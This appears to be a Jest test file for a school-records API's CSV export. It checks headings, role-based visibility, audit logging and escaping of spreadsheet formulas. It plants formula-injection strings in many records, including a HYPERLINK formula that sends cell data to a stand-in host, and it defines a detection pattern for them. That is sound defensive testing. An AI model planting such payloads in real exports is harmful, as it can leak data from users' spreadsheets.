import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { sample } from '../../../../scripts/lib/sample.mjs';
import { expectProblem } from '../problem.js';
import { answer, change, create, fileOf, query } from '../../qa/support/calls.js';
import type { Campus } from '../../qa/support/campus.js';
import { day } from '../../qa/support/days.js';
import { failures } from '../../qa/support/every.js';
import type { Ground } from '../../qa/support/ground.js';
import { everyList, type List } from '../../qa/support/lists.js';
import type { World } from '../../qa/support/world.js';

/** Texts that a spreadsheet would take for a formula, and that break carelessly written files. */
const formula = '=HYPERLINK("https://example.org/?"&A1,"x")';
const hostile = [
  formula,
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  'a "quoted", word',
  'عربي، فاصلة',
  'Smith; =1+1',
  '"=1+1',
  'Smith,"=1+1"',
  'Smith|@SUM(A1)',
  '＝1+1',
];

/** Files of `count` lists: their rows, columns and headings. */
export function csvSweep(ground: Ground, count = Infinity): void {
  describe('@remote every list as a file', () => {
    let { system, campus, world } = ground;
    let lists: List[];
    beforeAll(async () => {
      ({ system, campus, world } = ground);
      await plant(campus, world);
      lists = await everyList(campus, world);
    });

    it('should have the rows and the columns of the list, all of them, and no formula', async () => {
      const found = await failures(
        sample(lists, count, 'files of lists'),
        (list) => list.name,
        async (list) => {
          const { rows, total } = await list.page();
          const response = await answer(csv(list), 200);
          expect(response.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
          expect(response.headers['content-disposition']).toMatch(/^attachment; filename="[a-z-]+\.csv"$/);
          const [header, ...lines] = parse(response.text) as string[][];
          expect(header).toEqual(Object.keys(rows[0]!));
          expect(lines.flat().filter(startsFormula)).toEqual([]);
          if (list.grows) return;
          expect(lines.length).toBe(total);
          const expected = rows.map((row) => Object.values(row).map(cellOf).join('\n'));
          const wrong = expected.findIndex((row, index) => lines[index]!.map(unescaped).join('\n') !== row);
          expect(lines[wrong]?.map(unescaped).join('\n')).toBe(expected[wrong]);
        },
        2,
      );
      expect(found).toEqual([]);
    });

    it('should have plain headings, each once, and a name beside each id', async () => {
      const found = await failures(
        sample(lists, count, 'files of lists'),
        (list) => list.name,
        async (list) => {
          const response = await answer(plain(list), 200);
          expect(unreadable(parse(response.text) as string[][])).toEqual([]);
        },
        2,
      );
      expect(found).toEqual([]);
      expect(
        unreadable([
          ['termId', 'Term Record ID', 'Status', 'Status', 'Who'],
          ['', '', '', '', randomUUID()],
        ]),
      ).toEqual(['termId', 'Status', 'Term Record ID without its name', 'Who has an id']);
    });

    it('should have a name beside an id only for a reader who may see it', async () => {
      const header = async (scopes: string[]) => {
        const client = await campus.machine(scopes);
        const response = await answer(fileOf(client, `/api/registration-decisions`), 200);
        return (parse(response.text) as string[][])[0];
      };
      expect(await header(['enrollments.override', 'students.identity.read'])).toContain('Student Name');
      expect(await header(['enrollments.override'])).not.toContain('Student Name');
    });

    it('should refuse unknown headings and name the parameter', async () => {
      const list = lists.find(({ name }) => name === '/api/courses')!;
      const refused = await fileOf(list.client, `${list.path}?headings=German`);
      expectProblem(refused, 400, { detail: 'Parameter "headings" must be "plain" or "fields".' });
      expectProblem(await list.get({ headings: 'German' }), 400);
    });

    it('should keep hostile words readable, and filter, sort and cut like the list', async () => {
      const filter = {
        filter: { search: campus.mark, isActive: true },
        sort: ['code', 'DESC'],
        range: [1, 2],
      };
      const list = lists.find(({ name }) => name === '/api/courses')!;
      const page = await list.page(filter);
      const response = await answer(csv(list, filter), 200);
      const [, ...lines] = parse(response.text) as string[][];
      expect(response.headers['content-range']).toBe(page.range);
      expect(lines.map(([id]) => id)).toEqual(page.rows.map(({ id }) => id));
      const named = await answer(csv(list, { search: `${campus.mark} hyperlink` }), 200);
      expect(parse(named.text)).toContainEqual(expect.arrayContaining([`'${formula}`]));
    });

    it('should be refused as the list is: bad parameters, no session, no permission', async () => {
      const list = lists.find(({ name }) => name === '/api/students')!;
      expectProblem(await csv(list, { shoeSize: 43 }), 400);
      expectProblem(await system.anonymous.get('/api/students').set('Accept', 'text/csv'), 401, {
        title: 'Unauthorized',
      });
      expectProblem(await (await system.as('student')).get('/api/students').set('Accept', 'text/csv'), 403);
    });

    it('should be no more than the role may see', async () => {
      const students = `/api/students${query({ search: campus.mark })}`;
      const bursar = await answer((await system.as('bursar')).get(students).set('Accept', 'text/csv'), 200);
      const [header, ...lines] = parse(bursar.text) as string[][];
      expect(header).toEqual([
        'Student ID',
        'Last Name',
        'First Name',
        'Email',
        'Directory Restricted',
        'Directory Restriction',
        'Record ID',
      ]);
      expect(lines.length).toBeGreaterThanOrEqual(3);
      const teacher = await answer(world.faculty.client.get('/api/students').set('Accept', 'text/csv'), 200);
      expect((parse(teacher.text) as string[][]).length).toBe(1 + 2);
    });

    it('should be written to the audit trail', async () => {
      const list = lists.find(({ name }) => name === '/api/holds')!;
      const response = await answer(csv(list, { studentId: world.students[0].id }), 200);
      const trail = `/api/audit-events${query({ search: response.headers['x-request-id'] })}`;
      let found: Record<string, unknown>[] = [];
      for (let tries = 0; tries < 40 && found.length < 2; tries++) {
        if (tries) await new Promise((resolve) => setTimeout(resolve, 100));
        found = (await answer(campus.admin.get(trail), 200)).body as Record<string, unknown>[];
      }
      const actions = found.map(({ action, actorRole }) => [action, actorRole]);
      expect(actions).toContainEqual(['holds.export', 'machine_client']);
      expect(JSON.stringify(found)).toContain(world.students[0].id);
    });
  });
}

const csv = (list: List, parameters = {}) =>
  fileOf(list.client, list.path + query({ ...parameters, headings: 'fields' }));
const plain = (list: List) => fileOf(list.client, list.path);

const uuid = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
/** The heading of the record that the id refers to; student and enrollment share one. */
const nameOfId: Record<string, RegExp> = {
  'File Record ID': /^File( Name)?$/,
  'Student Record ID': /^(Student (ID|Name)|First Name|Applicant)$/,
  'Enrollment Record ID': /^(Course|Student Name|First Name)$/,
  'Section Record ID': /^(Section|Course)$/,
  'Course Record ID': /^Course( Title)?$/,
  'Assignment Record ID': /^Assignment Title$/,
  'Submission Record ID': /^Submission Title$/,
  'Discussion Record ID': /^Discussion Title$/,
  'Group Record ID': /^Group( Name)?$/,
  'Folder Record ID': /^Folder( Name)?$/,
  'Parent Record ID': /^Parent( (Name|Number))?$/,
  'Term Record ID': /^Term$/,
  'First Term Record ID': /^First Term$/,
  'Enrolled Term Record ID': /^Enrolled Term$/,
  'Program Record ID': /^Program$/,
  'Program Record IDs': /^Programs$/,
  'Instructor Record ID': /^Instructor$/,
  'Assignee Record ID': /^Assignee$/,
  'User Record ID': /^User$/,
  'Inquiry Record ID': /^Inquiry Number$/,
  'Application Record ID': /^Application Number$/,
  'Evaluation Record ID': /^Institution$/,
  'Requested By Record ID': /^Requested By$/,
  'Charge Record ID': /^(Paid For|Description)$/,
  'Plan Record ID': /^(Paid For|Description)$/,
  'Subject Record ID': /^Subject (Label|Type)$/,
  'Source Record ID': /^Source Type$/,
  'Payment Record ID': /^Reference$/,
  'Checkout Record ID': /^Reference$/,
  'Deposit Entry Record ID': /^Deposit$/,
  'Run Record ID': /^(As Of|Run( Name)?)$/,
};
/** The number that people know; it ends like the headings of record IDs. */
const studentNumber = 'Student ID';
/** These ids refer to no separate record: they are a line of the same list, the row itself, a call, or a number of an external system. */
const ownIds = ['Record ID', 'Reverses Record ID', 'Request ID', 'Rule ID', 'TFC Plan ID', 'Gateway ID'];

/** The headings that a reader of the file can't understand. */
function unreadable([header, ...lines]: string[][]): string[] {
  const isId = (heading = '') => / IDs?$/.test(heading) && heading !== studentNumber;
  const found = header!.filter(
    (heading, index) =>
      !/^[A-Z0-9]/.test(heading) || /[a-z][A-Z]|_/.test(heading) || header!.indexOf(heading) !== index,
  );
  for (const [index, heading] of header!.entries()) {
    const beside = [...header!.slice(0, index).reverse(), '', ...header!.slice(index + 1)];
    const gap = beside.indexOf('');
    const nearest = [beside.slice(0, gap), beside.slice(gap + 1)].map(
      (side) => side.find((one) => !isId(one)) ?? '',
    );
    if (isId(heading)) {
      if (ownIds.includes(heading)) continue;
      if (!nearest.some((one) => nameOfId[heading]?.test(one))) found.push(`${heading} without its name`);
    } else if (lines.some((cells) => uuid.test(cells[index]!))) found.push(`${heading} has an id`);
  }
  return found;
}

const cellOf = (value: unknown): string =>
  value === null ? '' : typeof value === 'string' ? value : JSON.stringify(value);

/** Whether a field of the file is a formula, or a part of it is, for a spreadsheet with another separator. */
const startsFormula = (cell: string): boolean =>
  !/^-?\d+(\.\d+)?$/.test(cell) &&
  (/^[\t\r\n]/.test(cell) || cell.split(/[,;|\t\r\n]/).some((part) => /^[\s"]*[=+\-@＝＋－＠]/.test(part)));

/** The value of a field, without the apostrophes at each start of a formula. */
const unescaped = (cell: string): string =>
  cell.replace(/^'(?=[\t\r\n])/, '').replace(/(^|[,;|\t\r\n])([\s"]*)'(?=[=+\-@＝＋－＠])/g, '$1$2');

/** Plants hostile texts in every field that an office fills in. */
async function plant(
  campus: Campus,
  { term, students: [ash], enrollment, plan, ...world }: World,
): Promise<void> {
  const { office, admin, mark } = campus;
  for (const [index, words] of hostile.entries()) {
    const course = await campus.course({
      title: words,
      description: words,
      department: words,
      code: `${mark}-${index}`,
    });
    await campus.section(term, { courseId: course.id, meetings: [{ days: ['fri'], room: words }] });
    await campus.assignment(world.section, { title: words, description: words });
    await campus.charge(ash, term, { description: words });
    await campus.hold(ash, { reason: words });
    await campus.payment({ planId: plan.id, amount: 1, reference: words });
    await create(admin, '/api/clients', {
      name: `${words} ${mark}`,
      description: words,
      scopes: ['catalog.read'],
    });
    await campus.program({ name: `${words} ${mark}`, description: words, degreeType: words });
    await campus.student({ firstName: words, lastName: words });
  }
  await change(office, `/api/students/${ash.id}`, { firstName: formula });
  await change(office, `/api/terms/${term.id}`, { name: `${formula} ${mark}` });
  await change(office, `/api/courses/${world.course.id}`, { title: formula, effectiveTermId: null });
  await change(office, `/api/programs/${world.program.id}`, {
    name: `${formula} ${mark}`,
    effectiveTermId: null,
  });
  await change(office, `/api/charges/${world.charge.id}`, { description: formula });
  await change(office, `/api/payments/${world.payment.id}`, { reference: formula });
  await change(office, `/api/assignments/${world.assignment.id}`, { title: formula });
  await change(office, `/api/policies/${world.policy.id}`, { note: formula, effectiveFrom: day(31) });
  await change(office, `/api/assignment-submissions/${world.submission.id}/grade`, {
    score: 12,
    feedback: formula,
  });
  await change(admin, `/api/users/${world.faculty.user.id}`, { lastName: `+Staff ${mark}` });
  const { status } = await office.post(`/api/enrollments/${enrollment.id}/drop`).send({ reason: formula });
  expect(status).toBe(200);
}
